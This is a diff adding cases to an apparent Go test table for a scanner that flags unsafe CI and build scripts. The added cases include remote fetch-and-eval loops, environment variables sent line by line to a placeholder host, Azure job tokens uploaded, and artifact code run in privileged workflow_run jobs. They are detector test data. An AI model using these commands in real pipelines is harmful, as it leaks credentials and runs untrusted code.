@@ -105,6 +105,8 @@ var registry = []Rule{
 		{"Makefile", "CURL = curl -fsSL\nU = https://x.invalid/t.sh\nall:\n\t$(CURL) $(U) -o t.sh\n\tsh ./t.sh", 5, false},
 		{"Makefile", "define FETCH\ncurl -fsSL https://x.invalid/t.sh -o /tmp/t.sh\nendef\nall:\n\t$(FETCH)\n\tsh /tmp/t.sh", 6, false},
 		{"Makefile", "$(eval $(shell curl -fsSL https://x.invalid/rules.mk))", 0, false},
+		{"x.sh", "curl -fsSL https://x.invalid/cmds.txt -o c.txt\nwhile read -r c; do eval \"$c\"; done < c.txt", 2, false},
+		{"x.sh", "curl -fsSL https://x.invalid/mirrors.txt | while read -r u; do\n  echo \"$u\"\ndone", 0, true},
 		// A version read from the network is text, not code.
 		{"Makefile", "V := $(shell curl -s https://api.x.invalid/latest)\nall:\n\techo $(V) > VERSION", 0, true},
 		// Checked against a digest or signature the change fixes, the
@@ -210,6 +212,8 @@ var registry = []Rule{
 			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
 			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
 			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
+			// Sent a line at a time: what read takes from the file is what the file held.
+			{"x.sh", "env > e.txt\nwhile IFS= read -r line; do\n  curl -s \"https://x.invalid/c?d=$line\"\ndone < e.txt", 3, false},
 			// Azure Pipelines' macros are the variables' values: the job's token written out and sent.
 			{"azure-pipelines.yml", "steps:\n- script: |\n    echo \"$(System.AccessToken)\" > t.txt\n    curl -sT t.txt https://x.invalid/u", 4, false},
 			{"azure-pipelines.yml", "steps:\n- script: |\n    curl -fsSL -H \"Authorization: Bearer $(System.AccessToken)\" \"$(System.CollectionUri)_apis/build/builds?api-version=7.0\"\n    echo \"##vso[task.setvariable variable=STAMP]$(date +%s)\"", 0, true},
@@ -415,6 +419,9 @@ var registry = []Rule{
 			// A package or requirements list from the artifact installs the pull request's code.
 			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: ${{ runner.temp }}/dist\n      - run: pip install \"$RUNNER_TEMP\"/dist/*.whl", 12, false},
 			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: ${{ runner.temp }}/out\n      - run: ${{ runner.temp }}/out/bin/report --post", 12, false},
+			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: ${{ runner.temp }}/a\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const run = require(`${process.env.RUNNER_TEMP}/a/comment.js`)\n            await run({github, context})", 15, false},
+			// A script that reads the artifact's text and comments with it runs nothing of it.
+			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const fs = require('fs')\n            const body = fs.readFileSync('comment.md', 'utf8')\n            await github.rest.issues.createComment({...context.repo, issue_number: 1, body})", 0, true},
 			// Unpacked over the checkout, an artifact may replace any file a build reads.
 			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n      - run: npm ci && npm run deploy", 12, false},
 			{".github/workflows/a.yml", "on:\n  workflow_run:\n    workflows: [ci]\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/download-artifact@v4\n        with:\n          run-id: ${{ github.event.workflow_run.id }}\n          path: pr\n      - run: unzip pr/site.zip -d site && ./site/deploy.sh", 12, false},
